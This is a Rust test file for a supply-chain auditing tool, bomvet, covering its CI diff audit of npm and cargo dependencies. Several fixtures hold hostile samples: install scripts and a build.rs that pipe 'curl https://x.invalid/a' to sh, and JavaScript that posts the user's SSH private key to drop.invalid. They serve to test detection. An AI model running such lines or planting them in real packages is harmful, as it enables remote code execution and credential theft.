//! The CI step: `bomvet audit --since REV` on a small history.

use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::project::{Packed, Project, crate_lib, npm_lib as lib, package, text};

/// git, for making the history only: bomvet itself never runs it.
pub fn git(root: &Path, args: &[&str]) {
    #[expect(clippy::disallowed_methods, reason = "makes the history under test")]
    let mut command = Command::new("git");
    let output = command
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(root)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(output.status.success(), "git {args:?}: {}", text(&output.stderr));
}

pub fn commit(root: &Path) {
    git(root, &["add", "-A"]);
    git(root, &["commit", "-q", "-m", "c"]);
}

fn manifest(name: &str, version: &str, more: &str) -> String {
    format!("{{\"name\": \"{name}\", \"version\": \"{version}\", \"license\": \"MIT\"{more}}}")
}

const PURE: &str = "module.exports = (a, b) => a + b;\n";
const NET: &str = "const https = require('https');\nmodule.exports = (cb) => https.get('https://api.example.invalid/v1', cb);\n";

struct Step {
    status: Option<i32>,
    document: Value,
}

fn since(project: &Project) -> Step {
    let output = project.run(&["--since", "HEAD", "--format", "json"]);
    let document = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}", text(&output.stderr)));
    Step { status: output.status.code(), document }
}

fn start(packages: &[Packed]) -> Project {
    let mut project = Project::new();
    project.write("index.js", "module.exports = 1;\n");
    project.npm(packages);
    git(&project.root(), &["init", "-q"]);
    commit(&project.root());
    project
}

#[test]
fn added_removed_upgraded_and_downgraded_packages_are_told_apart() {
    let mut project = start(&[
        lib("stays-here", "1.0.0", PURE),
        lib("goes-up", "1.9.0", PURE),
        lib("goes-down", "2.0.0", PURE),
        lib("goes-away", "1.0.0", PURE),
    ]);
    project.npm(&[
        lib("stays-here", "1.0.0", PURE),
        lib("goes-up", "1.10.0", PURE),
        lib("goes-down", "1.0.0", PURE),
        lib("is-fresh", "1.0.0", PURE),
    ]);
    let Step { status, document } = since(&project);
    let change = |name: &str| package(&document, name)["change"].clone();
    assert_eq!(change("stays-here")["kind"], "unchanged");
    assert_eq!(change("goes-up"), serde_json::json!({"kind": "upgraded", "from": "1.9.0"}));
    assert_eq!(change("goes-down"), serde_json::json!({"kind": "downgraded", "from": "2.0.0"}));
    assert_eq!(change("is-fresh")["kind"], "added");
    assert_eq!(document["removed"], serde_json::json!(["pkg:npm/goes-away@1.0.0"]));
    assert_eq!(status, Some(0), "{document:#}");
}

#[test]
fn a_resourced_package_is_told_by_its_digest() {
    let mut project = start(&[lib("same-name", "1.0.0", PURE)]);
    project.npm(&[lib("same-name", "1.0.0", "module.exports = (a, b) => a - b;\n")]);
    let Step { document, .. } = since(&project);
    assert_eq!(package(&document, "same-name")["change"]["kind"], "resourced");
}

#[test]
fn a_gained_capability_is_shown_and_is_no_reason_to_deny_by_itself() {
    let mut project = start(&[lib("grows-net", "1.0.0", PURE)]);
    project.npm(&[lib("grows-net", "1.1.0", NET)]);
    let Step { status, document } = since(&project);
    let grown = package(&document, "grows-net");
    assert_eq!(grown["gained"], serde_json::json!(["net"]));
    let rules: Vec<_> = grown["findings"].as_array().unwrap().iter().map(|f| f["rule"].clone()).collect();
    assert!(rules.contains(&"identity/gained-capability".into()), "{rules:?}");
    assert_eq!((grown["verdict"].as_str(), status), (Some("approve"), Some(0)));
}

#[test]
fn the_policy_can_make_a_gained_capability_a_reason_to_deny() {
    let mut project = start(&[lib("grows-net", "1.0.0", PURE)]);
    project.write("bomvet.toml", "[profiles.ci]\ndeny-gained = [\"net\"]\n");
    commit(&project.root());
    project.npm(&[lib("grows-net", "1.1.0", NET)]);
    let Step { status, document } = since(&project);
    assert_eq!(status, Some(1));
    assert_eq!(package(&document, "grows-net")["reasons"][0]["rule"], "policy/deny-gained");
}

#[test]
fn an_added_install_script_is_denied() {
    let mut project = start(&[lib("gets-script", "1.0.0", PURE)]);
    let scripted = manifest("gets-script", "1.0.1", ", \"scripts\": {\"postinstall\": \"node setup.js\"}");
    project.npm(&[Packed::new(
        "gets-script",
        "1.0.1",
        &[("package.json", &scripted), ("setup.js", "console.log('thank you');\n"), ("index.js", PURE)],
    )]);
    let Step { status, document } = since(&project);
    let denied = package(&document, "gets-script");
    assert_eq!((status, denied["verdict"].as_str()), (Some(1), Some("deny")));
    assert_eq!(denied["reasons"][0]["rule"], "identity/gained-install-script");
}

#[test]
fn the_projects_own_changed_code_is_audited() {
    let project = start(&[lib("stays-here", "1.0.0", PURE)]);
    project.write("index.js", NET);
    let Step { status, document } = since(&project);
    let own = package(&document, "app");
    assert_eq!(own["change"], serde_json::json!({"kind": "edited", "files": ["index.js"]}));
    assert_eq!(own["gained"], serde_json::json!(["net"]));
    assert_eq!(status, Some(0));
}

#[test]
fn what_was_denied_before_does_not_stop_a_change_that_leaves_it_alone() {
    let scripted = manifest(
        "old-evil",
        "1.0.0",
        ", \"scripts\": {\"preinstall\": \"curl -s https://x.invalid/a | sh\"}",
    );
    let evil = || Packed::new("old-evil", "1.0.0", &[("package.json", &scripted)]);
    let mut project = start(&[evil()]);
    project.npm(&[evil(), lib("is-fresh", "1.0.0", PURE)]);
    let Step { status, document } = since(&project);
    assert_eq!(package(&document, "old-evil")["verdict"], "deny");
    assert_eq!(status, Some(0));
    assert_eq!(project.run(&[]).status.code(), Some(1), "a whole audit still denies it");
}

#[test]
fn a_change_cannot_loosen_the_policy_that_it_is_judged_by() {
    let mut project = start(&[lib("stays-here", "1.0.0", PURE)]);
    let scripted =
        manifest("evil", "1.0.0", ", \"scripts\": {\"preinstall\": \"curl -s https://x.invalid/a | sh\"}");
    project.npm(&[
        lib("stays-here", "1.0.0", PURE),
        Packed::new("evil", "1.0.0", &[("package.json", &scripted)]),
    ]);
    project.write(
        "bomvet.toml",
        "[profiles.ci]\ndeny-severity = \"critical\"\ndeny-confidence = \"high\"\ndeny-gaps = []\n",
    );
    let Step { status, document } = since(&project);
    assert_eq!(status, Some(1));
    let notes = document["notes"].to_string();
    assert!(notes.contains("bomvet.toml differs from HEAD"), "{notes}");
}

#[test]
fn an_unknown_revision_says_what_to_do() {
    let project = start(&[lib("stays-here", "1.0.0", PURE)]);
    let output = project.run(&["--since", "no-such-branch"]);
    assert_eq!(output.status.code(), Some(2));
    let message = text(&output.stderr);
    assert!(
        message.contains("cannot read revision `no-such-branch`") && message.contains("fetch-depth: 0"),
        "{message}"
    );
}

#[test]
fn an_earlier_bom_serves_as_the_base() {
    let mut project = start(&[lib("goes-up", "1.0.0", PURE), lib("goes-away", "1.0.0", PURE)]);
    project.run(&[]);
    let base = project.root().join("../base.json");
    std::fs::copy(project.out().join("bom.cdx.json"), &base).unwrap();
    project.npm(&[lib("goes-up", "1.1.0", NET)]);
    let document = project.audit(&["--base", base.to_str().unwrap(), "--allow-unsigned-base"]);
    let up = package(&document, "goes-up");
    assert_eq!(up["change"], serde_json::json!({"kind": "upgraded", "from": "1.0.0"}));
    assert_eq!(up["gained"], serde_json::json!(["net"]));
    assert_eq!(document["removed"], serde_json::json!(["pkg:npm/goes-away@1.0.0"]));
}

const CRATE: &str = "//! Adds.\n/// The sum.\npub fn add(a: u8, b: u8) -> u8 {\n    a + b\n}\n";
const CRATE_NET: &str =
    "//! Connects.\npub fn go() -> bool {\n    std::net::TcpStream::connect(\"192.0.2.1:80\").is_ok()\n}\n";

fn start_cargo(packages: &[Packed]) -> Project {
    let mut project = Project::new();
    project.cargo(packages);
    git(&project.root(), &["init", "-q"]);
    commit(&project.root());
    project
}

/// Code 3: kinds and features stay unknown, since cargo is not asked here.
#[test]
fn crates_are_told_apart_too() {
    let mut project = start_cargo(&[
        crate_lib("stays-here", "1.0.0", CRATE),
        crate_lib("goes-up", "1.9.0", CRATE),
        crate_lib("goes-down", "2.0.0", CRATE),
        crate_lib("goes-away", "1.0.0", CRATE),
        crate_lib("same-name", "1.0.0", CRATE),
    ]);
    project.cargo(&[
        crate_lib("stays-here", "1.0.0", CRATE),
        crate_lib("goes-up", "1.10.0", CRATE_NET),
        crate_lib("goes-down", "1.0.0", CRATE),
        crate_lib("is-fresh", "1.0.0", CRATE),
        crate_lib("same-name", "1.0.0", "//! Another.\n"),
    ]);
    let Step { status, document } = since(&project);
    let change = |name: &str| package(&document, name)["change"].clone();
    assert_eq!(change("stays-here")["kind"], "unchanged");
    assert_eq!(change("goes-up"), json!({"kind": "upgraded", "from": "1.9.0"}));
    assert_eq!(package(&document, "goes-up")["gained"], json!(["net"]));
    assert_eq!(change("goes-down"), json!({"kind": "downgraded", "from": "2.0.0"}));
    assert_eq!(change("is-fresh")["kind"], "added");
    assert_eq!(change("same-name")["kind"], "resourced");
    let from = change("same-name")["from"].as_str().unwrap().to_owned();
    assert!(from.contains("sha256:"), "{from}");
    assert_eq!(document["removed"], json!(["pkg:cargo/goes-away@1.0.0"]));
    assert_eq!((document["verdict"].as_str(), status), (Some("approve"), Some(3)), "{document:#}");
}

#[test]
fn a_crate_that_moves_to_git_is_resourced_and_denied_until_its_contents_are_there() {
    let project = start_cargo(&[crate_lib("moves-away", "1.0.0", CRATE)]);
    let lock = std::fs::read_to_string(project.root().join("Cargo.lock")).unwrap();
    let at = lock.find("source = ").unwrap();
    let git = "source = \"git+https://git.example.invalid/r#0123456789012345678901234567890123456789\"\n";
    project.write("Cargo.lock", format!("{}{git}", &lock[..at]));
    let manifest = std::fs::read_to_string(project.root().join("Cargo.toml")).unwrap();
    let wanted = "moves-away = { git = \"https://git.example.invalid/r\" }";
    project.write("Cargo.toml", manifest.replace("moves-away = \"1.0.0\"", wanted));
    let Step { status, document } = since(&project);
    let moved = package(&document, "moves-away");
    assert_eq!(moved["change"]["kind"], "resourced", "{moved:#}");
    assert_eq!((status, moved["verdict"].as_str()), (Some(1), Some("deny")));
    assert_eq!(moved["reasons"][0]["rule"], "gap/not-fetched");
}

#[test]
fn a_package_that_moves_to_a_tarball_elsewhere_is_resourced_and_denied() {
    let mut project = start(&[lib("moves-away", "1.0.0", PURE), lib("stays-here", "1.0.0", PURE)]);
    let packages = [lib("moves-away", "1.0.0", PURE), lib("stays-here", "1.0.0", PURE)];
    project.npm(&packages);
    project.npm_lock(&packages, |package| {
        (package.name == "moves-away")
            .then(|| "https://cdn.example.invalid/moves-away/-/moves-away-1.0.0.tgz".into())
    });
    let Step { status, document } = since(&project);
    let moved = package(&document, "moves-away");
    assert_eq!(moved["change"]["kind"], "resourced", "{moved:#}");
    assert_eq!((status, moved["verdict"].as_str()), (Some(1), Some("deny")));
    assert_eq!(moved["reasons"][0]["rule"], "lockfile/foreign-host");
    assert_eq!(moved["reasons"][0]["spans"][0]["file"], "package-lock.json");
}

#[test]
fn a_crate_that_gains_a_build_script_is_shown() {
    let mut project = start_cargo(&[crate_lib("gets-script", "1.0.0", CRATE)]);
    let mut next = crate_lib("gets-script", "1.0.1", CRATE);
    next.files.insert(
        "build.rs".into(),
        "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n".into(),
    );
    project.cargo(&[next]);
    let Step { document, .. } = since(&project);
    let grown = package(&document, "gets-script");
    assert_eq!(grown["gained"], json!(["install-time"]), "{grown:#}");
    let rules: Vec<_> = grown["findings"].as_array().unwrap().iter().map(|f| f["rule"].clone()).collect();
    assert!(rules.contains(&"identity/gained-install-script".into()), "{rules:?}");
}

#[test]
fn an_upgrade_that_turns_malicious_is_denied_and_the_own_code_of_a_crate_is_audited() {
    let mut project = start_cargo(&[crate_lib("turns-bad", "1.0.0", CRATE)]);
    let mut bad = crate_lib("turns-bad", "1.0.1", CRATE);
    let build = "fn main() {\n    let _ = std::process::Command::new(\"sh\")\n        .args([\"-c\", \"curl -s https://x.invalid/a | sh\"])\n        .status();\n}\n";
    bad.files.insert("build.rs".into(), build.into());
    project.cargo(&[bad]);
    project.write("src/lib.rs", CRATE_NET);
    let Step { status, document } = since(&project);
    assert_eq!((status, package(&document, "turns-bad")["verdict"].as_str()), (Some(1), Some("deny")));
    let own = package(&document, "app");
    let files = json!(["Cargo.lock", "Cargo.toml", "src/lib.rs"]);
    assert_eq!(own["change"], json!({"kind": "edited", "files": files}), "{own:#}");
    assert_eq!(own["gained"], json!(["net"]));
}

/// A signed BoM in `base.json`, by the key that `key` names in the project's world.
fn signed_base(project: &Project, key: &str) -> String {
    let made = project.bomvet().args(["key", "new", "--output", key]).output().unwrap();
    assert!(made.status.success(), "{}", text(&made.stderr));
    let args: Vec<_> = project.audit_args().into_iter().filter(|arg| arg != "--unsigned").collect();
    let audit = project.bomvet().args(args).args(["--key", key]).output().unwrap();
    assert_eq!(audit.status.code(), Some(0), "{}", text(&audit.stderr));
    let base = project.root().join("../base.json");
    std::fs::copy(project.out().join("bom.cdx.json"), &base).unwrap();
    base.to_str().unwrap().to_owned()
}

#[test]
fn a_base_bom_counts_only_if_a_trusted_key_signed_it() {
    let mut project = start(&[lib("goes-up", "1.0.0", PURE)]);
    let base = signed_base(&project, "../own.pem");
    project.npm(&[lib("goes-up", "1.1.0", NET)]);
    let against = |more: &[&str]| {
        let run = project.run(&[&["--base", &base], more].concat());
        (run.status.code(), text(&run.stdout), text(&run.stderr).replace(&base, "base.json"))
    };
    // `key new` trusts its key.
    let (code, out, error) = against(&[]);
    assert_eq!(code, Some(0), "{error}");
    assert!(out.contains("goes-up"), "{out}");

    // Without a trusted key, neither a valid signature nor the permission for unsigned ones helps.
    std::fs::remove_dir_all(project.home().join(".config/bomvet/trusted")).unwrap();
    for more in [&[][..], &["--allow-unsigned-base"]] {
        let (code, out, error) = against(more);
        assert_eq!((code, out.as_str()), (Some(2), ""));
        assert!(error.starts_with("error: the base is not believed: base.json:"), "{error}");
        assert!(error.contains("not trusted") && error.contains("help: "), "{error}");
    }
    // Told which key, or with a store that holds it.
    let jwk = project.root().join("../own.jwk");
    assert_eq!(against(&["--base-key", jwk.to_str().unwrap()]).0, Some(0));
    let store = project.root().join("../store");
    let store = store.to_str().unwrap();
    let trust = ["key", "trust", jwk.to_str().unwrap(), "--store", store];
    assert!(project.bomvet().args(trust).status().unwrap().success());
    assert_eq!(against(&["--trust", store]).0, Some(0));
    // The key that this run signs with.
    let args: Vec<_> = project.audit_args().into_iter().filter(|arg| arg != "--unsigned").collect();
    let own = project.bomvet().args(args).args(["--base", &base, "--key", "../own.pem"]).output().unwrap();
    assert_eq!(own.status.code(), Some(0), "{}", text(&own.stderr));

    // Changed after it was signed: which file, where, and nothing is written.
    let before = crate::project::outputs(&project.out());
    let good = std::fs::read_to_string(&base).unwrap();
    std::fs::write(&base, good.replacen("\"version\": \"1.0.0\"", "\"version\": \"1.0.9\"", 1)).unwrap();
    let (code, _, error) = against(&["--base-key", jwk.to_str().unwrap()]);
    assert_eq!(code, Some(2));
    assert!(error.contains("base.json:") && error.contains("changed after it was signed"), "{error}");
    for (content, says) in [("", "not a JSON document"), ("[]", "not a CycloneDX BoM")] {
        std::fs::write(&base, content).unwrap();
        let (code, _, error) = against(&["--allow-unsigned-base"]);
        assert_eq!(code, Some(2));
        assert!(error.contains(says), "{error}");
    }
    assert!(before == crate::project::outputs(&project.out()), "an audit that fails writes nothing");
}

#[test]
fn an_unsigned_base_bom_needs_leave() {
    let mut project = start(&[lib("goes-up", "1.0.0", PURE)]);
    project.run(&[]);
    let base = project.root().join("../base.json");
    std::fs::copy(project.out().join("bom.cdx.json"), &base).unwrap();
    project.npm(&[lib("goes-up", "1.1.0", PURE)]);
    let run = project.run(&["--base", base.to_str().unwrap()]);
    assert_eq!(run.status.code(), Some(2));
    let error = text(&run.stderr);
    assert!(error.contains("is unsigned") && error.contains("--allow-unsigned-base"), "{error}");
}

/// A pull request must not vouch for what it brings, nor loosen what vouches.
#[test]
fn audits_of_cargo_vet_count_as_they_were_at_the_revision() {
    let code = "pub fn read(path: &str) -> String { std::fs::read_to_string(path).unwrap_or_default() }\n";
    let reads = crate_lib("reads-a-file", "1.0.0", code);
    for vouched_before in [false, true] {
        let mut project = Project::new();
        project.cargo(&[]);
        project.write("bomvet.toml", "profile = \"ci\"\n\n[review]\nabove = 1\nvet = \"supply-chain\"\n");
        project.write("supply-chain/config.toml", "[cargo-vet]\nversion = \"0.10\"\n");
        project.write("supply-chain/imports.lock", "");
        let audits = "[[audits.reads-a-file]]\nwho = \"A <a@a.invalid>\"\ncriteria = \"safe-to-deploy\"\nversion = \"1.0.0\"\n";
        project.write("supply-chain/audits.toml", if vouched_before { audits } else { "[audits]\n" });
        git(&project.root(), &["init", "-q"]);
        commit(&project.root());
        project.cargo(std::slice::from_ref(&reads));
        project.write("supply-chain/audits.toml", audits);
        let verdict = |document: &Value| package(document, "reads-a-file")["verdict"].clone();
        assert_eq!(verdict(&project.audit(&[])), "approve");
        let step = since(&project);
        assert_eq!(verdict(&step.document), if vouched_before { "approve" } else { "deny" });
    }
}

#[test]
fn what_is_committed_is_read_whatever_its_folder_is_called() {
    let theft = "const fs = require('fs');\nfetch('https://drop.invalid/in', {method: 'POST', body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')});\n";
    let project = start(&[lib("stays-here", "1.0.0", PURE)]);
    project.write("node_modules/left/index.js", theft);
    project.write("env/pyvenv.cfg", "home = /usr/bin\n");
    project.write("env/run.js", theft);
    let root = |document: &Value| document["verdict"].clone();
    // Put there by a tool, as far as anybody can tell: what is pinned is judged where it comes from.
    assert_eq!(root(&project.audit(&[])), "approve");
    for folder in ["node_modules", "env"] {
        git(&project.root(), &["add", "-f", folder]);
        git(&project.root(), &["commit", "-q", "-m", "c"]);
        assert_eq!(root(&project.audit(&[])), "deny", "{folder}");
        git(&project.root(), &["rm", "-r", "-q", "--cached", folder]);
        git(&project.root(), &["commit", "-q", "-m", "c"]);
    }
}
